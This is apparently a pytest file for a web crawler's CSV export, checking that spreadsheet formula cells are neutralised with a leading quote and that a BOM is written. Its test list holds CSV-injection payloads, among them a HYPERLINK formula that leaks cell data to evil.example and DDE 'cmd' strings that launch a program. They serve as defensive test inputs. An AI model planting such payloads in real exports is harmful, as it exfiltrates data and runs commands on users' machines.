"""CSV for spreadsheets: a BOM, and every formula-like cell neutralised as OWASP recommends."""

from __future__ import annotations

import csv
import io

import pytest

from csto_crawler.spreadsheet_csv import BOM, csv_cell, neutralise, write_csv

# Cells a spreadsheet would evaluate, from hostile page titles; each must come out starting with '.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
    "+1-555-0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",  # a leading tab: spreadsheets drop it on import and find the = first
    "\r=1+1",  # a leading carriage return, likewise
    "\n=1+1",
    " =1+1",  # a space before the =
    "\u00a0\u00a0+1",  # no-break spaces
    "\t",
    "\x00=1",
    "＝1+1",  # full-width equals
]
# Text that looks nothing like a formula stays as it is.
PLAIN = ["CSTO Secretary General = guest of honour", "Встреча 13 декабря", "2022-09-14", "", "a-b", "'quoted'"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_neutralise_prefixes_a_quote_to_formula_like_cells(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", PLAIN)
def test_neutralise_leaves_plain_text_alone(cell: str) -> None:
    assert neutralise(cell) == cell


def test_csv_cell_keeps_numbers_and_writes_lists_as_json() -> None:
    assert csv_cell(-5) == -5  # a count is a number, not text a formula could hide in
    assert csv_cell(None) is None
    assert csv_cell([{"url": "=x", "filename": "Заявление.docx"}]) == '[{"url": "=x", "filename": "Заявление.docx"}]'


def test_write_csv_has_a_bom_and_reads_back_with_the_quote_kept() -> None:
    out = io.StringIO()
    rows = [
        {"id": "en-1", "title": FORMULAS[0], "n": 3},
        {"id": "ru-2", "title": 'Слово "в кавычках", запятая', "n": 0},
    ]
    assert write_csv(rows, ("id", "title", "n"), out) == 2
    text = out.getvalue()
    assert text.startswith(BOM + "id,title,n\r\n")
    read = list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))
    assert read == [
        ["id", "title", "n"],
        ["en-1", "'" + FORMULAS[0], "3"],
        ["ru-2", 'Слово "в кавычках", запятая', "0"],
    ]
